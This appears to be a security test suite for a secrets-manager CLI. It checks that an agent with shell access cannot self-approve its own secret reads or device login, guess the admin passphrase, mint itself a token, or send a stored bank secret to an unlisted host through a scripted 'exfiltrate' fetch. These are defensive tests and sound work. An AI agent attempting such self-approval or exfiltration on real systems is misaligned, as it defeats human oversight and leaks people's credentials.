/**
 * Attacks from an agent that has a shell as the same OS user (docs/security.md "Granting is for
 * people", attacks 33, 34, 41): it has the CLI, the data directory and the admin socket, but not
 * the admin passphrase. It cannot approve its own access or its own device request, and a fetch
 * to a host the person did not allow sends nothing anywhere.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli, type DaemonProcess } from '../helpers/cli.js';
import { startTargetServer, type TargetServer } from '../helpers/target-server.js';
import { keychainAvailability, tempHome } from '../helpers/temp-home.js';
import { asPerson, createToken, ok, setUpEngine, startCli, waitForApproval } from './agent-cli-helpers.js';

const keychain = keychainAvailability();
const GITHUB = 'ghp_do-not-leak-6620';
const BANK = 'bank-do-not-leak-3318';

describe.skipIf(keychain.skip)(`an agent with a shell, without the passphrase ${keychain.reason}`, { timeout: 240_000 }, () => {
  const home = tempHome('vk-agsec-');
  let daemon: DaemonProcess;
  let allowed: TargetServer;
  let other: TargetServer;

  beforeAll(async () => {
    allowed = await startTargetServer();
    other = await startTargetServer();
    daemon = await setUpEngine(home.dir);
    await ok(home.dir, ['item', 'add', 'Personal', 'GitHub', '--kind', 'api_key'], { input: `${asPerson.input}${GITHUB}\n` });
    await ok(home.dir, ['item', 'add', 'Accounting', 'Bank', '--allowed-host', allowed.host], { input: `${asPerson.input}${BANK}\n` });
    const gh = await createToken(home.dir, 'gh-bot', ['--vault', 'Personal', '--read']);
    await ok(home.dir, ['login', '--enroll', gh.code, '--name', 'gh-bot', '--profile', 'gh']);
    const bank = await createToken(home.dir, 'bank-bot', ['--vault', 'Accounting', '--use']);
    await ok(home.dir, ['login', '--enroll', bank.code, '--name', 'bank-bot', '--profile', 'bank']);
  });

  afterAll(async () => {
    expect(await daemon.stop()).toBe(0);
    await Promise.all([allowed.close(), other.close()]);
    home.cleanup();
  });

  it('cannot approve its own pending access: no passphrase, a guessed one, all refused and audited', async () => {
    const read = startCli(home.dir, ['read', 'vk://Personal/GitHub/api_key', '--profile', 'gh', '--reason', 'totally legit']);
    const approval = await waitForApproval(home.dir);
    const noInput = await runCli(home.dir, ['approvals', 'approve', approval.id]);
    expect(noInput.code).toBe(2);
    const guessed = await runCli(home.dir, ['approvals', 'approve', approval.id, '--for', '60'], { input: 'password123\n' });
    expect(guessed.code).toBe(5);
    expect(guessed.stderr).toContain('[passphrase_invalid]');
    // Still waiting for a person; nothing was released.
    const pending = JSON.parse((await ok(home.dir, ['approvals', 'list', '--json'])).stdout) as { id: string }[];
    expect(pending.map((a) => a.id)).toContain(approval.id);
    expect(read.stdout()).not.toContain(GITHUB);
    await ok(home.dir, ['approvals', 'deny', approval.id], asPerson);
    const done = await read.done;
    expect(done.code).toBe(9);
    expect(done.stdout).not.toContain(GITHUB);
    const refusals = JSON.parse((await ok(home.dir, ['audit', 'list', '--action', 'admin.grant_refused', '--json'])).stdout) as { rows: { detail: { method: string } }[] };
    expect(refusals.rows.some((r) => r.detail.method === 'decideApproval')).toBe(true);
  });

  it('cannot approve its own device request or mint itself a token', async () => {
    const login = startCli(home.dir, ['login', '--scope', 'vault:Personal:read', '--reason', 'let me in', '--profile', 'sneaky']);
    await login.waitFor(/Code: [A-Z]{4}-[A-Z]{4}/);
    const userCode = /Code: ([A-Z]{4}-[A-Z]{4})/.exec(login.stderr())?.[1] ?? '';
    expect((await runCli(home.dir, ['requests', 'approve', userCode], { input: 'not it\n' })).code).toBe(5);
    expect((await runCli(home.dir, ['token', 'create', '--name', 'self', '--vault', 'Personal', '--read'], { input: 'not it\n' })).code).toBe(5);
    const pending = JSON.parse((await ok(home.dir, ['requests', 'list', '--json'])).stdout) as { userCode: string; status: string }[];
    expect(pending.find((d) => d.userCode === userCode)?.status).toBe('pending');
    await ok(home.dir, ['requests', 'deny', userCode], asPerson);
    expect((await login.done).code).toBe(9);
    const tokens = JSON.parse((await ok(home.dir, ['token', 'list', '--json'])).stdout) as { name: string }[];
    expect(tokens.map((t) => t.name).sort()).toEqual(['bank-bot', 'gh-bot']);
  });

  it('a fetch to a host not on the entry’s list is refused (exit 9) and nothing is sent anywhere', async () => {
    const r = await runCli(home.dir, ['fetch', `${other.url}/collect`, '-H', 'X-Key: {{vk://Accounting/Bank/password}}', '--profile', 'bank', '--reason', 'exfiltrate']);
    expect(r.code).toBe(9);
    expect(r.stderr).toContain('[host_not_allowed]');
    expect(other.connections()).toBe(0);
    expect(allowed.connections()).toBe(0);
    // A use-only token cannot read the value either.
    const read = await runCli(home.dir, ['read', 'vk://Accounting/Bank/password', '--profile', 'bank', '--reason', 'peek']);
    expect(read.code).toBe(9);
    expect(read.stdout).not.toContain(BANK);
  });

  it('a secret access without a reason is refused before anything is asked of the engine (exit 2)', async () => {
    const r = await runCli(home.dir, ['run', '--profile', 'gh', '--', process.execPath, '-e', 'console.log(process.env.T)'], { env: { T: 'vk://Personal/GitHub/api_key', VALETKEY_REASON: undefined } });
    expect(r.code).toBe(2);
    expect(r.stdout).not.toContain(GITHUB);
    expect(JSON.parse((await ok(home.dir, ['approvals', 'list', '--json'])).stdout)).toEqual([]);
  });
});
